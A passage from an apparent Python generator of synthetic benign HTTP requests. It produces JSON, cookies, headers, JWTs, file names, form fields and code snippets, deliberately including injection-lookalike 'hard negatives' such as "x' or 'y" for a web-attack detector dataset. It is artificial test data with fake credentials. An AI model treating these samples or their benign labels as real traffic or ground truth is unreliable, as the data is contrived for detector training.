                "where": {"status": "active", "plan": {"in": ["pro", "team"]}},
                "orderBy": {"createdAt": "desc"},
                "take": 50,
                "skip": R.randrange(0, 500, 50),
            }
            path = "/api/admin/users/query"
        elif kind == 5:
            hard = True
            doc = {
                "templateId": "welcome-%d" % R.randrange(1, 9),
                "subject": "Welcome aboard, {{first_name}}!",
                "body": "Hi {{first_name}},\n\nYour order #{{order_id}} ships {{ship_date}}.\nTotal: ${{total}}\n\nThanks,\nThe team",
                "locale": pick(["en-US", "en-GB"]),
            }
            path = "/api/notifications/templates"
        elif kind == 6:
            hard = True
            doc = {
                "ticket": {
                    "subject": pick(
                        [
                            "Select the union rep for the Friday meeting",
                            "Drop-off point changed; please update",
                            "Order by date not respected -- 2nd time",
                            "Can't delete from my wishlist (1=1 items?)",
                            "Script for the onboarding video is ready",
                        ]
                    ),
                    "priority": pick(["low", "normal", "high"]),
                    "tags": ["support", "web"],
                    "body": pick(
                        [
                            "Hi team, the total says $1,299.00 but should be 1.299,00 EUR.",
                            "When I select 'All' and then union with archived, nothing shows up.",
                            'Steps: open /account/settings -> Security -> click "Reset"; nothing happens.',
                            "Our office is at 5 Main St & 2nd Ave; deliveries 9-5 only.",
                        ]
                    ),
                }
            }
            path = "/api/support/tickets"
        else:
            hard = R.random() < 0.5
            doc = {
                "deviceId": "dev-" + rand_hex(10),
                "command": pick(["reboot", "update_firmware", "set_brightness"]),
                "params": {"level": R.randrange(0, 100), "schedule": pick(["*/5 * * * *", "0 3 * * 1-5", "now"])},
                "path": pick(
                    ["/var/lib/app/firmware.bin", "/opt/device/config.json", "C:\\ProgramData\\Device\\fw.bin"]
                ),
            }
            path = "/api/iot/devices/commands"
        payload = json.dumps(doc, ensure_ascii=False, separators=pick([(",", ":"), (", ", ": ")]))
        benign(
            cat,
            "json",
            payload,
            hard,
            path=path,
            obj=MARK,
            raw=True,
            kind="client",
            method=pick(["POST", "POST", "PUT", "PATCH"]),
        )


def b64(data, urlsafe=False):
    import base64

    return (base64.urlsafe_b64encode if urlsafe else base64.b64encode)(data).decode()


def rand_bytes(n):
    return bytes(R.randrange(256) for _ in range(n))


@gen
def gen_benign_base64():
    cat = "benign_base64"
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
    pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    for i in range(75):
        kind = i % 9
        if kind == 0:
            v = b64(pdf + rand_bytes(R.randrange(60, 300)))
            benign(
                cat,
                "json",
                v,
                False,
                path="/api/documents",
                obj={"fileName": "contract-%d.pdf" % R.randrange(1000), "mimeType": "application/pdf", "content": MARK},
                kind="client",
            )
        elif kind == 1:
            v = "data:image/png;base64," + b64(png + rand_bytes(R.randrange(40, 200)))
            benign(cat, "json", v, True, path="/api/me/avatar", obj={"image": MARK}, kind="browser")
        elif kind == 2:
            cur = json.dumps({"id": R.randrange(10**6), "ts": 1733300000 + R.randrange(10**6)}, separators=(",", ":"))
            v = b64(cur.encode(), urlsafe=R.random() < 0.5)
            benign(
                cat,
                "query",
                v,
                R.random() < 0.5,
                path="/api/v1/feed",
                name="cursor",
                others=[("limit", "20")],
                enc="strict",
                kind="client",
            )
        elif kind == 3:
            v = b64(rand_bytes(32))
            h = {"X-Signature": v}
            benign(
                cat,
                "header",
                v,
                False,
                path="/webhooks/payments",
                hname=pick(["X-Signature", "X-Hub-Signature-256-B64", "Content-Digest"]),
                kind="client",
            )
        elif kind == 4:
            f, l = person()
            user = email_for(f, l)
            v = "Basic " + b64((user + ":" + pick(["s3cr3t!", "P@ss:word+1", "hunter2", "Tr0ub4dor&3"])).encode())
            benign(cat, "header", v, R.random() < 0.4, path="/api/v1/reports", hname="Authorization", kind="client")
        elif kind == 5:
            v = (
                b64(
                    json.dumps(
                        {"_fresh": True, "user_id": str(R.randrange(10**5)), "csrf_token": rand_hex(40)}
                    ).encode(),
                    urlsafe=True,
                ).rstrip("=")
                + "."
                + rand_token(6)
                + "."
                + rand_token(27, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_")
            )
            benign(cat, "cookie", v, False, name="session", cookies=["theme=dark"], enc="literal")
        elif kind == 6:
            v = b64(rand_bytes(R.randrange(200, 600)))
            body, ct = None, None
            benign(
                cat,
                "multipart",
                v,
                R.random() < 0.5,
                path="/api/attachments",
                name="payload_b64",
                others=[("encoding", "base64"), ("filename", "scan_%03d.jpg" % R.randrange(999))],
            )
        elif kind == 7:
            v = b64(("<note><to>%s</to><body>Meeting moved to 3pm</body></note>" % pick(FIRST)).encode())
            benign(cat, "form", v, True, path="/api/legacy/import", name="data", others=[("format", "xml-b64")])
        else:
            v = b64(rand_bytes(16)).rstrip("=")
            benign(
                cat,
                "query",
                v,
                False,
                path="/oauth/authorize",
                name="state",
                others=[
                    ("response_type", "code"),
                    ("client_id", "web-" + rand_hex(6)),
                    ("redirect_uri", "https://app.example.com/callback"),
                    ("code_challenge", b64(rand_bytes(32), True).rstrip("=")),
                    ("code_challenge_method", "S256"),
                ],
                enc="strict",
                kind="browser",
            )


SNIPPETS = [
    ("python", "def chunks(xs, n):\n    for i in range(0, len(xs), n):\n        yield xs[i:i + n]\n", False),
    (
        "python",
        "import csv\nwith open('orders.csv', newline='') as f:\n    rows = [r for r in csv.DictReader(f) if r['status'] == 'paid']\nprint(len(rows))\n",
        False,
    ),
    ("python", 'cur.execute("SELECT id, name FROM users WHERE email = %s", (email,))\nuser = cur.fetchone()\n', True),
    (
        "python",
        'result = subprocess.run(["git", "status", "--short"], capture_output=True, text=True, check=True)\nprint(result.stdout)\n',
        True,
    ),
    (
        "python",
        "@app.route('/items/<int:item_id>')\ndef item(item_id):\n    return render_template('item.html', item=Item.query.get_or_404(item_id))\n",
        False,
    ),
    (
        "javascript",
        "const res = await fetch(`/api/items?page=${page}`, { headers: { Accept: 'application/json' } });\nconst data = await res.json();\n",
        False,
    ),
    ("javascript", "document.querySelector('#save').addEventListener('click', () => {\n  form.submit();\n});\n", False),
    (
        "javascript",
        "export function debounce(fn, ms = 200) {\n  let t;\n  return (...args) => { clearTimeout(t); t = setTimeout(() => fn(...args), ms); };\n}\n",
        False,
    ),
    ("javascript", "const total = cart.items.reduce((sum, it) => sum + it.price * it.qty, 0);\n", False),
    (
        "sql",
        "SELECT c.name, COUNT(o.id) AS orders\nFROM customers c\nLEFT JOIN orders o ON o.customer_id = c.id\nGROUP BY c.name\nORDER BY orders DESC\nLIMIT 10;\n",
        True,
    ),
    ("sql", "SELECT id FROM archived_posts\nUNION ALL\nSELECT id FROM posts WHERE deleted_at IS NULL;\n", True),
    (
        "sql",
        "ALTER TABLE invoices ADD COLUMN paid_at timestamptz;\nCREATE INDEX CONCURRENTLY idx_invoices_paid_at ON invoices (paid_at);\n",
        True,
    ),
    ("sql", "DELETE FROM sessions WHERE expires_at < now() - interval '30 days';\n", True),
    ("bash", 'for f in *.png; do\n  convert "$f" -resize 50% "thumb_${f}"\ndone\n', False),
    ("bash", "cat access.log | grep ' 404 ' | awk '{print $7}' | sort | uniq -c | sort -rn | head\n", True),
    ("bash", "find . -name '*.log' -mtime +7 -delete && echo done\n", True),
    ("bash", "rm -rf node_modules package-lock.json && npm install\n", True),
    ("bash", 'export PATH="$HOME/.local/bin:$PATH"\n', False),
    (
        "php",
        "<?php\n$stmt = $pdo->prepare('SELECT * FROM posts WHERE slug = ?');\n$stmt->execute([$slug]);\n$post = $stmt->fetch();\n",
        True,
    ),
    ("php", "<?php echo htmlspecialchars($user['name'], ENT_QUOTES, 'UTF-8'); ?>\n", True),
    (
        "php",
        "public function index(Request $request)\n{\n    return view('home', ['items' => Item::latest()->paginate(15)]);\n}\n",
        False,
    ),
    (
        "java",
        'try (PreparedStatement ps = conn.prepareStatement("UPDATE accounts SET balance = ? WHERE id = ?")) {\n    ps.setBigDecimal(1, balance);\n    ps.setLong(2, id);\n    ps.executeUpdate();\n}\n',
        True,
    ),
    (
        "java",
        "List<String> names = users.stream().map(User::getName).filter(n -> !n.isBlank()).collect(Collectors.toList());\n",
        False,
    ),
    (
        "java",
        '@GetMapping("/orders/{id}")\npublic Order get(@PathVariable Long id) {\n    return repo.findById(id).orElseThrow();\n}\n',
        False,
    ),
    (
        "go",
        'func handler(w http.ResponseWriter, r *http.Request) {\n\tfmt.Fprintf(w, "hello %s", r.URL.Query().Get("name"))\n}\n',
        False,
    ),
    ("ruby", "User.where(active: true).order(created_at: :desc).limit(20).pluck(:email)\n", False),
    (
        "yaml",
        'services:\n  web:\n    image: nginx:1.25\n    ports:\n      - "8080:80"\n    volumes:\n      - ./conf:/etc/nginx/conf.d:ro\n',
        False,
    ),
    ("html", '<template>\n  <button @click="count++">Clicked {{ count }} times</button>\n</template>\n', False),
    (
        "powershell",
        "Get-ChildItem -Path C:\\Logs -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-7) } | Remove-Item\n",
        True,
    ),
    ("c", '#include <stdio.h>\nint main(void) {\n    printf("%d\\n", 42);\n    return 0;\n}\n', False),
]


@gen
def gen_benign_code():
    cat = "benign_code"
    titles = [
        "How do I paginate this?",
        "Refactor suggestion",
        "Why is this slow?",
        "Snippet for the wiki",
        "Works on my machine",
        "Code review: small fix",
        "TIL",
        "Util I keep rewriting",
    ]
    for i in range(76):
        lang, code, hard = SNIPPETS[i % len(SNIPPETS)]
        mode = i % 4
        if mode in (0, 1):
            benign(
                cat,
                "json",
                code,
                hard,
                path=pick(["/api/snippets", "/api/v1/gists", "/api/questions/%d/answers" % R.randrange(1000, 99999)]),
                obj={"title": pick(titles), "language": lang, "code": MARK, "public": R.random() < 0.7},
                kind="browser",
            )
        elif mode == 2:
            benign(
                cat,
                "form",
                code,
                hard,
                path="/paste",
                name="content",
                others=[("syntax", lang), ("expire", pick(["1D", "1W", "N"]))],
                kind="browser",
            )
        else:
            benign(
                cat,
                "multipart",
                code,
                hard,
                path="/api/snippets/upload",
                name="file",
                mp_as_file=True,
                filename=pick(["main", "snippet", "example", "query"])
                + {
                    "python": ".py",
                    "javascript": ".js",
                    "sql": ".sql",
                    "bash": ".sh",
                    "php": ".php",
                    "java": ".java",
                    "go": ".go",
                    "ruby": ".rb",
                    "yaml": ".yml",
                    "html": ".vue",
                    "powershell": ".ps1",
                    "c": ".c",
                }[lang],
                fctype="text/plain",
                others=[("title", pick(titles))],
            )


@gen
def gen_benign_cookies():
    cat = "benign_cookies"
    for i in range(75):
        kind = i % 10
        jar = []
        if kind == 0:
            name, v, enc, hard = (
                "_ga",
                "GA1.2.%d.%d" % (R.randrange(10**8, 10**9), 1733300000 + R.randrange(10**6)),
                "literal",
                False,
            )
            jar = ["_gid=GA1.2.%d.%d" % (R.randrange(10**8, 10**9), 1733300000), "_gat=1"]
        elif kind == 1:
            name, v, enc, hard = "sessionid", rand_token(32, "abcdefghijklmnopqrstuvwxyz0123456789"), "literal", False
            jar = ["csrftoken=" + rand_token(32), "django_language=" + pick(["en", "de", "pt-br"])]
        elif kind == 2:
            name = "OptanonConsent"
            v = (
                "isGpcEnabled=0&datestamp=Thu+Dec+04+2026+10%%3A%d%%3A00+GMT%%2B0100+(Central+European+Standard+Time)&version=202411.1.0&browserGpcFlag=0&isIABGlobal=false&hosts=&consentId=%s&interactionCount=1&landingPath=NotLandingPage&groups=C0001%%3A1%%2CC0002%%3A%d%%2CC0003%%3A1%%2CC0004%%3A0"
                % (R.randrange(10, 59), rand_hex(8) + "-" + rand_hex(4), R.randrange(2))
            )
            enc, hard = "literal", True
            jar = ["OptanonAlertBoxClosed=2026-12-04T09:%02d:11.000Z" % R.randrange(60)]
        elif kind == 3:
            name, enc, hard = "cart", None, True
            v = json.dumps(
                [{"sku": "SKU-%04d" % R.randrange(9999), "qty": R.randrange(1, 4)} for _ in range(R.randrange(1, 4))],
                separators=(",", ":"),
            )
        elif kind == 4:
            name, enc, hard = "redirect_after_login", None, True
            v = pick(
                [
                    "/search?q=union station hotels&page=2",
                    "/account/orders?status=open&sort=-date",
                    "/docs/select-statement",
                    "/cart?coupon=SAVE10",
                ]
            )
        elif kind == 5:
            name, enc, hard = "wp-settings-1", "literal", True
            v = "libraryContent%3Dbrowse%26editor%3Dtinymce%26hidetb%3D1%26mfold%3Do%26urlbutton%3Dnone"
            jar = [
                "wordpress_logged_in_"
                + rand_hex(32)
                + "=admin%7C1733990000%7C"
                + rand_token(43)
                + "%7C"
                + rand_hex(64),
                "wp-settings-time-1=1733300000",
            ]
        elif kind == 6:
            name, enc, hard = "prefs", None, False
            v = json.dumps(
                {
                    "theme": pick(["dark", "light"]),
                    "fontSize": R.randrange(12, 20),
                    "sidebar": pick(["collapsed", "open"]),
                },
                separators=(",", ":"),
            )
        elif kind == 7:
            name, enc, hard = "ajs_user_id", "literal", False
            v = "%22usr_" + rand_token(12) + "%22"
            jar = [
                "ajs_anonymous_id=%22"
                + rand_hex(8)
                + "-"
                + rand_hex(4)
                + "-4"
                + rand_hex(3)
                + "-a"
                + rand_hex(3)
                + "-"
                + rand_hex(12)
                + "%22"
            ]
        elif kind == 8:
            name, enc, hard = "_fbp", "literal", False
            v = "fb.1.%d.%d" % (1733300000000 + R.randrange(10**6), R.randrange(10**9))
            jar = [
                "cf_clearance="
                + rand_token(43, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_.-")
                + "-1733300000-1.2.1.1-"
                + rand_token(20)
            ]
        else:
            name, enc, hard = pick(["last_search", "recently_viewed"]), None, True
            v = pick(
                [
                    "drop shipping rates",
                    "select a union rep",
                    "cat food 5kg",
                    "script writing course",
                    "O'Reilly books",
                    '1/2" copper pipe',
                ]
            )
        benign(
            cat,
            "cookie",
            v,
            hard,
            name=name,
            cookies=jar,
            enc=enc,
            path=pick(["/", "/account", "/products/%d" % R.randrange(1, 999), "/checkout", "/blog"]),
            kind="browser",
        )


FILES_PLAIN = [
    "invoice_2026-11.pdf",
    "IMG_4821.JPG",
    "holiday-photo.png",
    "Q3 report.xlsx",
    "cv.docx",
    "logo.svg",
    "meeting-notes.txt",
    "dataset.csv",
    "slides_final.pptx",
    "screenshot 2026-12-04 at 10.15.32.png",
    "archive.tar.gz",
    "backup-2026-12-01.zip",
    "audio memo.m4a",
    "floorplan.dwg",
    "contract_signed.pdf",
]
FILES_HARD = [
    "report.final.v2.FINAL.pdf",
    "résumé (1).docx",
    "~$budget.xlsx",
    ".env.example",
    "setup.sh",
    "v1.2.3-release-notes.md",
    "select-union-results.csv",
    "drop_table_migration.sql",
    "C:\\Users\\bob\\Desktop\\cv.pdf",
    "my.photo..jpg",
    "index.html",
    "etc_hosts_template.txt",
    "データ一覧.xlsx",
    "Отчёт за ноябрь.pdf",
    "a&b; c=d.txt",
    "config.yml.bak",
    "#1 ranking (draft) [v3].docx",
    "O'Neil's recipe.pdf",
    "..notes.txt",
    "web.config.sample",
    "%PDF sample.pdf",
    "cat-videos-2026.mp4",
    "passwd-policy.pdf",
    "script.js.map",
]
MIME = {
    "pdf": "application/pdf",
    "png": "image/png",
    "jpg": "image/jpeg",
    "JPG": "image/jpeg",
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "csv": "text/csv",
    "txt": "text/plain",
    "md": "text/markdown",
    "svg": "image/svg+xml",
    "zip": "application/zip",
    "gz": "application/gzip",
    "sql": "application/sql",
    "sh": "application/x-sh",
    "html": "text/html",
    "mp4": "video/mp4",
    "yml": "application/x-yaml",
    "bak": "application/octet-stream",
    "map": "application/json",
}


@gen
def gen_benign_files():
    cat = "benign_files"
    for i in range(76):
        hard = i % 5 in (1, 3)
        fname = FILES_HARD[(i // 5 * 2 + (i % 5 == 3)) % len(FILES_HARD)] if hard else pick(FILES_PLAIN)
        ext = fname.rsplit(".", 1)[-1]
        ctype = MIME.get(ext, "application/octet-stream")
        mode = i % 4
        if mode == 0 or mode == 1:
            content = pick(
                [
                    "Quarterly figures attached.",
                    "col_a,col_b\n1,2\n3,4\n",
                    "%PDF-1.4 (binary omitted)",
                    "GIF89a(binary omitted)",
                    "PK\x03\x04(zip omitted)",
                ]
            )
            benign(
                cat,
                "multipart",
                fname,
                hard,
                path=pick(
                    [
                        "/api/files",
                        "/upload",
                        "/api/v1/drive/upload",
                        "/tickets/%d/attachments" % R.randrange(100, 9999),
                    ]
                ),
                name="file",
                filename="PAYLOAD",
                fctype=ctype,
                others=[("folder", pick(["Documents", "Shared/Finance", "inbox"]))],
                kind="browser",
            )
        elif mode == 2:
            benign(
                cat,
                "path",
                fname,
                hard,
                path=pick(
                    [
                        "/files/{}",
                        "/api/v1/drive/items/{}/download",
                        "/media/uploads/2026/12/{}",
                        "/s/" + rand_token(8) + "/{}",
                    ]
                ),
                kind="browser",
            )
        else:
            benign(
                cat,
                "json",
                fname,
                hard,
                path=pick(["/api/files/rename", "/api/uploads/presign", "/api/v1/attachments"]),
                obj={
                    "fileName": MARK,
                    "size": R.randrange(1000, 9000000),
                    "contentType": ctype,
                    "folderId": "fld_" + rand_token(10),
                },
                kind="client",
            )


@gen
def gen_benign_forms():
    cat = "benign_forms"
    passwords = [
        "P@ss'w0rd!",
        "Tr0ub4dor&3",
        "correct horse battery staple",
        "p4$$w0rd!#%",
        "Sup3r<Secret>",
        '"quoted"pass;1',
        "hunter2",
        "Winter-2026",
        "a-b_c.d=e&f",
        "ÄpfelBäume99!",
        "x' or 'y",
        "--Secret--42",
    ]
    comments = [
        "Great article! I'd select this approach over the other one any day.",
        "Bought 2 & returned 1 -- the 1/2\" size didn't fit. 4/5 overall.",
        "Can you drop the price for bulk orders (>= 50 units)?",
        "Use <kbd>Ctrl</kbd>+<kbd>C</kbd> to copy, then paste into the terminal.",
        "Works with Node >= 18; for older versions run `npm i node-fetch`.",
        "My cat loves this food; 10/10 would order again!",
        "Hi, my name is Seán Ó Briain and I'm applying for the role of 'Lead Engineer'.",
        "Where is the union office? The map says 1st & Main but that's wrong.",
        "Price shows $12.99 at checkout but €11,50 on the product page.",
        "Delete my account please. Order #12345; email on file.",
    ]
    for i in range(76):
        f, l = person()
        kind = i % 6
        if kind == 0:
            pw = pick(passwords)
            benign(
                cat,
                "form",
                pw,
                any(c in pw for c in "'\";<>&-#"),
                path=pick(["/login", "/account/signin", "/wp-login.php"]),
                name="password",
                others=[("username", email_for(f, l)), ("remember_me", "on"), ("csrf_token", rand_token(32))],
                kind="browser",
            )
        elif kind == 1:
            v = f + " " + l
            benign(
                cat,
                "form",
                v,
                "'" in v,
                path="/signup",
                name="full_name",
                others=[("email", email_for(f, l)), ("plan", pick(["free", "pro"])), ("accept_terms", "1")],
                kind="browser",
            )
        elif kind == 2:
            city, zipc, cc = pick(CITIES)
            st = pick(STREETS)
            benign(
                cat,
                "form",
                st,
                any(c in st for c in "'&#/"),
                path="/checkout/address",
                name="address_line1",
                others=[("first_name", f), ("last_name", l), ("city", city), ("postal_code", zipc), ("country", cc)],
                kind="browser",
            )
        elif kind == 3:
            c = pick(comments)
            benign(
                cat,
                "form",
                c,
                True,
                path="/blog/%d/comments" % R.randrange(10, 999),
                name="comment",
                others=[("author", f), ("email", email_for(f, l))],
                kind="browser",
            )
        elif kind == 4:
            comp = pick(
                [
                    "AT&T",
                    "Ben & Jerry's",
                    "Procter & Gamble",
                    "Müller GmbH & Co. KG",
                    "Acme Corp.",
                    "O'Reilly Media",
                    "Smith, Jones & Partners LLP",
                    "Initech",
                ]
            )
            benign(
                cat,
                "form",
                comp,
                "'" in comp or "&" in comp,
                path="/contact",
                name="company",
                others=[
                    ("name", f + " " + l),
                    ("phone", "+1 (555) %03d-%04d" % (R.randrange(1000), R.randrange(10000))),
                    ("message", "Please call me back re: pricing."),
                ],
                kind="browser",
            )
        else:
            q = pick(
                ["1-2 business days", "N/A", "100% cotton", "size: M/L", "#blessed", "12:30 pm", "yes", "no preference"]
            )
            benign(
                cat,
                "multipart",
                q,
                "%" in q or "#" in q,
                path="/surveys/%d/responses" % R.randrange(1, 50),
                name="answer_%d" % R.randrange(1, 12),
                others=[("respondent", email_for(f, l))],
                kind="browser",
            )


GQL = [
    (
        "query GetUser($id: ID!) {\n  user(id: $id) {\n    id\n    name\n    email\n    avatarUrl(size: 64)\n  }\n}",
        {"id": "usr_42"},
        False,
    ),
    (
        "query Feed($first: Int = 20, $after: String) {\n  feed(first: $first, after: $after) {\n    edges { cursor node { id title author { name } } }\n    pageInfo { hasNextPage endCursor }\n  }\n}",
        {"first": 10, "after": "Y3Vyc29yOjEw"},
        False,
    ),
    (
        "mutation AddToCart($input: AddToCartInput!) {\n  addToCart(input: $input) {\n    cart { id totalQuantity cost { totalAmount { amount currencyCode } } }\n    userErrors { field message }\n  }\n}",
        {"input": {"merchandiseId": "gid://shop/ProductVariant/4412", "quantity": 2}},
        False,
    ),
    (
        "query Search($q: String!) {\n  search(query: $q) {\n    __typename\n    ... on Product { id name price }\n    ... on Article { id headline }\n  }\n}",
        {"q": "select a union rep"},
        True,
    ),
    (
        "mutation UpdateProfile($bio: String) {\n  updateProfile(bio: $bio) { ok errors }\n}",
        {"bio": "Backend dev. I write SQL, shell & Go; opinions my own."},
        True,
    ),
    (
        "query { viewer { login repositories(first: 5, orderBy: {field: UPDATED_AT, direction: DESC}) { nodes { name } } } }",
        None,
        False,
    ),
    (
        "fragment PostFields on Post { id title excerpt publishedAt }\nquery Posts { posts(where: {status: PUBLISHED}) { ...PostFields } }",
        None,
        False,
    ),
    (
        "query Orders($status: [OrderStatus!]) {\n  orders(filter: {status: {in: $status}}, orderBy: CREATED_AT_DESC) { totalCount nodes { id total } }\n}",
        {"status": ["PAID", "SHIPPED"]},
        True,
    ),
    (
        "mutation Login($email: String!, $password: String!) {\n  login(email: $email, password: $password) { token expiresAt }\n}",
        {"email": "ana.silva@example.com", "password": "p4$$w0rd!#%"},
        True,
    ),
    (
        'query Product { product(handle: "cat-food-5kg") { title variants(first: 3) { nodes { sku price } } } }',
        None,
        False,
    ),
    (
        "subscription OnMessage($room: ID!) { messageAdded(roomId: $room) { id text sender { name } } }",
        {"room": "general"},
        False,
    ),
    ("query Countries { countries { code name emoji } }", None, False),
    ("query Me { me { id name } }", None, False),
    ("mutation Delete($id: ID!) { deleteComment(id: $id) { id } }", {"id": "cmt_991"}, False),
]


@gen
def gen_benign_graphql():
    cat = "benign_graphql"
    for i in range(75):
        q, variables, hard = GQL[i % len(GQL)]
        op = None
        first = q.split("{")[0].split("(")[0].split()
        if len(first) >= 2 and first[0] in ("query", "mutation", "subscription"):
            op = first[1]
        if i % 3 == 2 and not q.startswith("mutation"):
            others = []
            if op:
                others.append(("operationName", op))
            if variables is not None:
                others.append(("variables", json.dumps(variables, separators=(",", ":"))))
            benign(cat, "query", q, hard, path="/graphql", name="query", others=others, enc="strict", kind="browser")
        else:
            obj = {"operationName": op, "query": MARK, "variables": variables or {}}
            if op is None:
                del obj["operationName"]
            benign(
                cat,
                "json",
                q,
                hard,
                path=pick(["/graphql", "/api/graphql", "/v1/graphql"]),
                obj=obj,
                method="POST",
                kind=pick(["browser", "client"]),
            )


@gen
def gen_benign_headers():
    cat = "benign_headers"
    cands = [
        ("Accept", ACCEPT_HTML, False),
        ("Accept-Encoding", "gzip, deflate, br, zstd", False),
        ("Accept-Language", "de-CH,de;q=0.9,fr-CH;q=0.8,fr;q=0.7,en;q=0.6", False),
        ("Cache-Control", "no-cache", False),
        ("If-None-Match", 'W/"5e15153d-120f"', True),
        ("If-Modified-Since", "Wed, 03 Dec 2026 18:22:05 GMT", False),
        ("Sec-CH-UA", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"', True),
        ("Sec-Fetch-Mode", "navigate", False),
        ("X-Forwarded-For", "203.0.113.195, 10.0.12.4, 172.16.3.9", True),
        ("Forwarded", "for=192.0.2.60;proto=https;by=203.0.113.43;host=shop.example.com", True),
        ("Referer", "https://www.google.com/search?q=select+a+union+rep&oq=select+union", True),
        ("Referer", "https://shop.example.com/products/cat-food?variant=5kg&utm_source=newsletter", False),
        ("Range", "bytes=0-1048575", False),
        ("X-Request-ID", "", False),
        ("traceparent", "", False),
        ("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", True),
        (
            "User-Agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 OPR/109.0.0.0",
            False,
        ),
        ("User-Agent", "MyCompanyApp/5.12.1 (iPhone; iOS 17.4.1; Scale/3.00) Alamofire/5.9.0", False),
        ("Prefer", "return=representation; wait=10", True),
        ("Content-Security-Policy-Report-Only", "", False),
        ("Accept", "application/vnd.github+json; version=2022-11-28", False),
        ("X-Api-Key", "", False),
        ("Origin", "https://app.example.com", False),
        ("Link", '<https://api.example.com/v1/items?page=3>; rel="next"', True),
        ("X-Correlation-Id", "", False),
        ("Accept", "*/*", False),
        ("If-Match", '"33a64df551425fcc55e4d42a148795d9f25f89d4"', True),
        ("X-Original-Forwarded-For", "198.51.100.24", False),
        ("Content-Disposition", 'attachment; filename="Q3 report (final).xlsx"', True),
        ("X-Timezone", "America/Los_Angeles", False),
    ]
    for i in range(76):
        name, v, hard = cands[i % len(cands)]
        if name in ("X-Request-ID", "X-Correlation-Id"):
            v = "%s-%s-4%s-%s-%s" % (rand_hex(8), rand_hex(4), rand_hex(3), rand_hex(4), rand_hex(12))
        elif name == "traceparent":
            v = "00-%s-%s-01" % (rand_hex(32), rand_hex(16))
        elif name == "X-Api-Key":
            v = "sk_live_" + rand_token(24)
        elif name == "Content-Security-Policy-Report-Only":
            name, v, hard = "X-Forwarded-Proto", pick(["https", "http"]), False
        if name == "User-Agent":
            benign(
                cat,
                "header",
                v,
                hard,
                hname=name,
                path=pick(["/", "/robots.txt", "/api/v1/config", "/sitemap.xml"]),
                kind="client",
            )
        else:
            benign(
                cat,
                "header",
                v,
                hard,
                hname=name,
                path=pick(
                    ["/", "/api/v1/items", "/products/42", "/static/app.3f9a1c.js", "/account", "/downloads/manual.pdf"]
                ),
            )


def make_jwt(claims, alg="RS256", kid=None):
    hdr = {"alg": alg, "typ": "JWT"}
    if kid:
        hdr["kid"] = kid
    enc = lambda d: b64(json.dumps(d, separators=(",", ":")).encode(), urlsafe=True).rstrip("=")
    sig = b64(rand_bytes(256 if alg.startswith("RS") else 32), urlsafe=True).rstrip("=")
    return enc(hdr) + "." + enc(claims) + "." + sig


@gen
def gen_benign_jwt():
    cat = "benign_jwt"
    for i in range(75):
        f, l = person()
        now = 1764842400 + R.randrange(0, 86400)
        claims = {
            "sub": pick(["usr_", "auth0|", ""]) + rand_token(16),
            "iat": now,
            "exp": now + pick([900, 3600, 86400]),
            "iss": pick(
                [
                    "https://auth.example.com/",
                    "https://login.example.org/realms/main",
                    "https://securetoken.example.net/app-1234",
                ]
            ),
            "aud": pick(["api.example.com", "web-client", ["api", "billing"]]),
        }
        hard = False
        if i % 3 == 1:
            claims.update(
                {
                    "scope": "openid profile email read:orders write:orders",
                    "name": f + " " + l,
                    "email": email_for(f, l),
                    "roles": pick([["user"], ["admin", "billing"], ["support"]]),
                }
            )
            hard = True
        if i % 5 == 2:
            claims["https://example.com/claims"] = {"tenant": "t-" + rand_hex(6), "plan": "pro"}
        tok = make_jwt(
            claims, alg=pick(["RS256", "ES256", "HS256", "PS256"]), kid=pick([None, rand_hex(16), "2026-12-rotation"])
        )
        mode = i % 5
        if mode in (0, 1):
            benign(
                cat,
                "header",
                "Bearer " + tok,
                hard,
                hname="Authorization",
                path=pick(["/api/v1/me", "/api/orders", "/graphql"]),
                kind="client",
            )
        elif mode == 2:
            benign(
                cat,
                "cookie",
                tok,
                hard,
                name=pick(["access_token", "id_token", "__Secure-next-auth.session-token"]),
                cookies=std_cookies(),
                enc="literal",
                path=pick(["/dashboard", "/", "/settings"]),
                kind="browser",
            )
        elif mode == 3:
            benign(
                cat,
                "query",
                tok,
                hard,
                name=pick(["token", "access_token"]),
                path=pick(["/ws", "/api/download", "/embed/report"]),
                enc="raw",
                kind="browser",
            )
        else:
            benign(
                cat,
                "json",
                tok,
                hard,
                path=pick(["/api/auth/refresh", "/oauth/introspect", "/api/session/verify"]),
                obj={
                    "token": MARK,
                    "grant_type": pick(["refresh_token", "urn:ietf:params:oauth:grant-type:jwt-bearer"]),
                },
                kind="client",
            )


MARKDOWN = [
    (
        "# Release notes 2.4\n\n- Faster search\n- Fixed *dark mode* contrast\n- New [changelog](https://docs.example.com/changelog)\n",
        False,
    ),
    (
        "## Setup\n\n```bash\ngit clone https://github.com/example/app.git\ncd app && make install\n./bin/app --port 8080\n```\n\nThen open http://localhost:8080.\n",
        True,
    ),
    (
        "To find duplicates:\n\n```sql\nSELECT email, COUNT(*)\nFROM users\nGROUP BY email\nHAVING COUNT(*) > 1;\n```\n",
        True,
    ),
    (
        "| Plan | Price | Seats |\n|------|------:|------:|\n| Free | $0 | 1 |\n| Pro | $12 | 5 |\n| Team | $49 | 25 |\n",
        False,
    ),
    (
        '![Architecture diagram](https://cdn.example.com/img/arch-v2.png "Overview")\n\n> **Note:** the cache sits *before* the API gateway.\n',
        False,
    ),
    (
        "Use `os.path.join()` instead of string concatenation:\n\n```python\nimport os\npath = os.path.join(base_dir, 'uploads', filename)\n```\n",
        False,
    ),
    (
        "### Keyboard shortcuts\n\n1. <kbd>Ctrl</kbd> + <kbd>K</kbd> opens search\n2. <kbd>Esc</kbd> closes dialogs\n",
        False,
    ),
    (
        "Fixes #482. The `<select>` dropdown lost focus after `onChange`; now we call `event.preventDefault()` only for Enter.\n",
        True,
